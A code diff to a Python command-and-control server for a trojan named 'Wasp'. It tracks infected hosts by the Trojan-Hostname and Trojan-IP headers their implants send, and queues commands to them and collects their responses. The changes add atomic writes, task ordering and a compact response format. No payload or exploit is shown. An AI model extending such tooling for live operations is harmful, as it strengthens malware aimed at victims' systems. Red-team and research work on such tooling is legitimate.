@@ -4,13 +4,29 @@ from datetime import datetime
 from enum import Enum
 import uuid
 import base64
+import contextlib
 import json
 import struct
 import logging
+import os
+import time
 from logging import Logger
 from pathlib import Path
-from typing import Dict, List, Optional, Type
+from typing import BinaryIO, ContextManager, Dict, Iterator, List, Optional, Type
 from constants import WASP_HOME, WASPS_PATH, logger
+
+# Messages are prefixed with their length as a network order uint32
+uint32_struct = struct.Struct("!I")
+# Packed responses start with the metadata JSON length and the data length
+response_header_struct = struct.Struct("!II")
+
+def decode_output(data: bytes) -> str:
+    """ Decode command output as text, or base64 encode it if it is binary """
+    try:
+        return data.decode('utf-8')
+    except UnicodeDecodeError:
+        return base64.b64encode(data).decode('utf-8')
+
 class WaspException(Exception):
     pass
 
@@ -39,9 +55,51 @@ WASP_COMMAND_MAP = WaspCommandMap()
 def WaspCommandClass(clazz: Type[WaspCommand]) -> Type[WaspCommand]:
     """Decorator for registering new commands"""
     WASP_COMMAND_MAP.register(clazz.name, clazz)
-    logger.debug(f"Registering command {clazz.name} - {clazz}")
+    logger.debug("Registering command %s - %s", clazz.name, clazz)
     return clazz
 
+def file_timestamp() -> str:
+    """ The UTC time for task and response file names. Whole seconds alone would let commands
+    queued in the same second sort by their IDs, so the nanoseconds follow """
+    seconds, nanoseconds = divmod(time.time_ns(), 1_000_000_000)
+    return f"{time.strftime('%Y%m%d-%H%M%S', time.gmtime(seconds))}.{nanoseconds:09d}"
+
+def temporary_path_for(path: Path) -> Path:
+    """ The hidden file beside path that it is written to before being renamed into place """
+    return path.with_name(f".{path.name}.tmp")
+
+def write_atomically(path: Path, data: bytes):
+    """ Write to a hidden temporary file beside path and rename it into place,
+    so the server and UI never read a partly written task or response """
+    temporary_path = temporary_path_for(path)
+    # 0o666 so the umask applies, as it does for the other files we write
+    fd = os.open(temporary_path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o666)
+    try:
+        try:
+            view = memoryview(data)
+            while view:
+                view = view[os.write(fd, view):]
+        finally:
+            os.close(fd)
+        os.replace(temporary_path, path)
+    except BaseException:
+        # The temporary file is hidden from task listings, so nothing else would ever clean it up
+        temporary_path.unlink(missing_ok=True)
+        raise
+
+@contextlib.contextmanager
+def open_atomically(path: Path) -> Iterator[BinaryIO]:
+    """ Like write_atomically, for data written a piece at a time. path is only
+    replaced once the block completes, a failure leaves any existing file alone """
+    temporary_path = temporary_path_for(path)
+    try:
+        with temporary_path.open('wb') as temporary_file:
+            yield temporary_file
+        os.replace(temporary_path, path)
+    except BaseException:
+        temporary_path.unlink(missing_ok=True)
+        raise
+
 class WaspMalware(object):
     connection_type: WaspConnectionType = WaspConnectionType.PRIMARY
     wasp_id: str
@@ -60,7 +118,9 @@ class WaspMalware(object):
     completed_taskking_directory: Path
     response_directory: Path
 
-    def __init__(self, response: WaspResponse) -> None:
+    def __init__(self, response: WaspResponse, persist: bool = True) -> None:
+        """ persist creates the wasp's directories and writes its metadata,
+        it can be skipped when loading a wasp that is already on disk """
         self.initial_response = response
         meta = response.metadata
         headers = meta.get("headers", {})
@@ -69,16 +129,15 @@ class WaspMalware(object):
         self.wasp_directory = WASPS_PATH / str(self.wasp_id)
 
         self.tasking_directory = self.wasp_directory / "tasking"
-        self.tasking_directory.mkdir(parents=True, exist_ok=True)
-
         self.completed_tasking_directory = self.wasp_directory / "completed_tasking"
-        self.completed_tasking_directory.mkdir(parents=True, exist_ok=True)
-
         self.response_directory = self.wasp_directory / "response"
-        self.response_directory.mkdir(parents=True, exist_ok=True)
-
         self.collection_directory = self.wasp_directory / "collection"
-        self.collection_directory.mkdir(parents=True, exist_ok=True)
+        if persist:
+            # The first creates the wasp directory, so the rest do not need parents
+            self.tasking_directory.mkdir(parents=True, exist_ok=True)
+            self.completed_tasking_directory.mkdir(exist_ok=True)
+            self.response_directory.mkdir(exist_ok=True)
+            self.collection_directory.mkdir(exist_ok=True)
 
         self.hostname = headers.get("Trojan-Hostname")
         self.local_ip = headers.get("Trojan-IP")
@@ -86,62 +145,76 @@ class WaspMalware(object):
         self.operating_system = headers.get("Trojan-OSersion")
         self.platform = WaspPlatform(headers.get('Trojan-Platform'))
 
-        metadata_path = self.wasp_directory / "wasp.json"
-        metadata_path.write_bytes(self.pack())
+        if persist:
+            metadata_path = self.wasp_directory / "wasp.json"
+            metadata_path.write_bytes(self.pack())
 
     def submit_task(self, command: WaspCommand):
-        utc_date = datetime.utcnow()
-        time_string = utc_date.strftime("%Y%m%d-%H%M%S")
+        time_string = file_timestamp()
         task_path = self.tasking_directory / f"command-{time_string}-{command.command_id}.json"
-        task_path.write_bytes(command.pack())
+        write_atomically(task_path, command.pack())
 
     def submit_response(self, response: WaspResponse):
-        utc_date = datetime.utcnow()
-        time_string = utc_date.strftime("%Y%m%d-%H%M%S")
+        time_string = file_timestamp()
         if response.command:
             command_id = response.command.command_id
             command_type = response.command.name
         else:
-            logger.warning(f"Response {response} not associated with command.")
+            logger.warning("Response %s not associated with command.", response)
             command_id = str(uuid.uuid4())
             command_type = "unknown"
 
-        task_path = self.response_directory / f"response-{time_string}-{command_type}-{command_id}.json"
-        task_path.write_bytes(response.pack())
+        task_path = self.response_directory / f"response-{time_string}-{command_type}-{command_id}.response"
+        write_atomically(task_path, response.pack())
+
+    def get_task_paths(self) -> List[Path]:
+        """ Pending task files in submission order. The file names start with the submission time,
+        to the nanosecond, so they sort in the order the commands were queued """
+        with os.scandir(self.tasking_directory) as task_entries:
+            # Skip tasks that are still being written
+            task_names = sorted(task_entry.name for task_entry in task_entries if not task_entry.name.startswith('.'))
+        # Sort the plain names and only build Paths for the result
+        return [self.tasking_directory / task_name for task_name in task_names]
+
+    @staticmethod
+    def task_command_id(task_path: Path) -> str:
+        """ The command ID from a task file name, command-<date>-<time>[.<nanoseconds>]-<command_id>.json """
+        return task_path.stem.split('-', 3)[3]
+
+    def load_task(self, task_path: Path) -> WaspCommand:
+        task = WaspCommand.unpack(self, task_path.read_bytes())
+        task.command_id = self.task_command_id(task_path)
+        return task
 
     def get_tasks(self) -> List[WaspCommand]:
-        tasks: List[WaspCommand] = []
-        task_paths = list(self.tasking_directory.iterdir())
-        for task_path in sorted(task_paths):
-            task = WaspCommand.unpack(self, task_path.read_bytes())
-            tasks.append(task)
-        return tasks
+        return [self.load_task(task_path) for task_path in self.get_task_paths()]
 
     def has_tasks(self) -> bool:
-        return len(self.get_tasks()) > 0
+        with os.scandir(self.tasking_directory) as task_entries:
+            return any(not task_entry.name.startswith('.') for task_entry in task_entries)
 
     def get_next_task(self) -> Optional[WaspCommand]:
-        tasks = self.get_tasks()
-        if len(tasks) > 0:
-            return tasks[0]
+        task_paths = self.get_task_paths()
+        if len(task_paths) > 0:
+            return self.load_task(task_paths[0])
         return None
 
     def remove_task(self, command: WaspCommand):
-        # TODO: This is not good?? Refactor??
-        task_paths = list(self.tasking_directory.iterdir())
-        for task_path in sorted(task_paths):
-            task = WaspCommand.unpack(self, task_path.read_bytes())
-            if task.command_id == command.command_id:
+        # The command ID is in the file name, so there is no need to parse every task to find it
+        for task_path in self.get_task_paths():
+            if self.task_command_id(task_path) == command.command_id:
                 task_path.unlink()
                 break
 
     def pack(self) -> bytes:
-        return self.initial_response.pack()
+        # The survey carries no data, so wasp.json stays plain JSON
+        return self.initial_response.pack_json()
 
     @classmethod
     def unpack(cls, packed: bytes) -> WaspMalware:
         unpacked_response = WaspResponse.unpack(packed)
-        return WaspMalware(unpacked_response)
+        # Unpacked wasps come from their own wasp.json, so there is nothing to write back
+        return WaspMalware(unpacked_response, persist=False)
 
     def __str__(self) -> str:
         return self.wasp_id
@@ -153,15 +226,19 @@ class WaspMalware(object):
 class WaspCommand(object):
     # TODO: Associate response type
     # TODO: Provide callback for response maybe??
+    # Commands pile up in the queue, so keep their per-instance state in slots rather than a dict
+    __slots__ = ('wasp', 'responses', 'command_id', 'generated_date')
     logger: logging.Logger = logger.getChild("WaspCommand")
     wasp: WaspMalware
-    command_id: str = str(uuid.uuid4())
+    command_id: str
     name: str
     responses: List[WaspResponse]
-    generated_date: datetime = datetime.utcnow()
+    generated_date: datetime
 
     def __init__(self, wasp: WaspMalware) -> None:
         self.wasp = wasp
+        self.command_id = str(uuid.uuid4())
+        self.generated_date = datetime.utcnow()
         self.responses = []
 
     def get_dict(self) -> Dict:
@@ -169,7 +246,7 @@ class WaspCommand(object):
 
     @classmethod
     def from_dict(cls, wasp: WaspMalware, source: Dict) -> WaspCommand:
-        logger.debug(f"Parsing {cls} from {source}")
+        logger.debug("Parsing %s from %s", cls, source)
         raise NotImplementedError()
 
     def get_json(self) -> str:
@@ -177,7 +254,7 @@ class WaspCommand(object):
 
     def pack(self) -> bytes:
         encoded = self.get_json().encode('utf-8')
-        return struct.pack("!I", len(encoded)) + encoded
+        return uint32_struct.pack(len(encoded)) + encoded
 
     @classmethod
     def unpack(cls, wasp: WaspMalware, packed: bytes) -> WaspCommand:
@@ -185,17 +262,22 @@ class WaspCommand(object):
         json_blob = json.loads(packed[4:])
         uri = json_blob.get("uri")
         if not uri:
-            logger.error(f"{json_blob}")
+            logger.error("%s", json_blob)
             raise WaspException("No URI, Is this a WaspCommand JSON?")
-        command_class = WASP_COMMAND_MAP.class_for_name(uri)
+        # Read the map directly, this runs for every task and response
+        command_class = WASP_COMMAND_MAP.command_map.get(uri)
         if command_class:
-            logger.debug(f"Selected command class: {uri} - {command_class}")
+            logger.debug("Selected command class: %s - %s", uri, command_class)
             return command_class.from_dict(wasp, json_blob)
         raise WaspException("Unimplmented command")
 
-    def __repr__(self) -> str:
+    def __str__(self) -> str:
         return json.dumps(self.get_dict(), sort_keys=True, indent=2)
 
+    def __repr__(self) -> str:
+        # Cheap enough for log lines, use str() for the full command
+        return f"{type(self).__name__}({self.command_id})"
+
     def submit_response(self, response: WaspResponse):
         response.command = self
         self.responses.append(response)
@@ -204,41 +286,61 @@ class WaspCommand(object):
         # Handle this response however the particular command type wants
         self.handle_response(response)
 
+    def open_chunk_sink(self) -> Optional[ContextManager[BinaryIO]]:
+        """ A file to stream a chunked response into as it arrives. None keeps the data on the response """
+        return None
+
     def handle_response(self, response: WaspResponse):
-        output: Optional[bytes | str] = None
-        try:
-            output = response.data.decode('utf-8')
-        except UnicodeDecodeError:
-            output = base64.b64encode(response.data).decode('utf-8')
-        self.logger.info(f"Result: {output}")
+        output: Optional[bytes | str] = decode_output(response.data)
+        self.logger.info("Result: %s", output)
         raise NotImplementedError()
     
     def mark_complete(self):
         self.wasp.remove_task(self)
 
 class WaspCommandChunked(WaspCommand):
+    __slots__ = ()
+
     def get_data(self) -> bytes:
         raise NotImplementedError()
 
 class WaspResponse(object):
-    command: Optional[WaspCommand] = None
-    metadata: Dict = {}
-    data: bytes = b''
+    __slots__ = ('command', 'metadata', 'data')
+    command: Optional[WaspCommand]
+    metadata: Dict
+    data: bytes
 
     def __init__(self, metadata: Dict, data: bytes, command: Optional[WaspCommand] = None):
         self.metadata = metadata
         self.data = data
         self.command = command
 
-    def pack(self) -> bytes:
+    @property
+    def chunked(self) -> bool:
+        return self.metadata.get("headers", {}).get("Transfer-Encoding") == "chunked"
+
+    def pack_json(self) -> bytes:
+        """ Pack as one JSON object with base64 data, readable with the usual JSON tools """
         packed = {
             "data": base64.b64encode(self.data).decode('utf-8'),
             "metadata": self.metadata,
         }
-        return json.dumps(packed, indent=2, sort_keys=True).encode('utf-8')
+        # indent forces json onto its pure Python encoder, so responses are written compactly
+        return json.dumps(packed, sort_keys=True).encode('utf-8')
+
+    def pack(self) -> bytes:
+        # The data is stored raw after the metadata rather than base64 encoded inside the JSON
+        metadata = json.dumps(self.metadata, sort_keys=True).encode('utf-8')
+        return response_header_struct.pack(len(metadata), len(self.data)) + metadata + self.data
 
     @classmethod
     def unpack(cls, packed: bytes) -> WaspResponse:
-        json_blob = json.loads(packed)
-        data = base64.b64decode(json_blob["data"])
-        return WaspResponse(metadata=json_blob["metadata"], data=data)
+        if packed[:1] == b'{':
+            # Packed by pack_json, or by older versions which always used JSON
+            json_blob = json.loads(packed)
+            data = base64.b64decode(json_blob["data"])
+            return WaspResponse(metadata=json_blob["metadata"], data=data)
+        metadata_length, data_length = response_header_struct.unpack_from(packed)
+        data_start = response_header_struct.size + metadata_length
+        metadata = json.loads(packed[response_header_struct.size:data_start])
+        return WaspResponse(metadata=metadata, data=packed[data_start:data_start + data_length])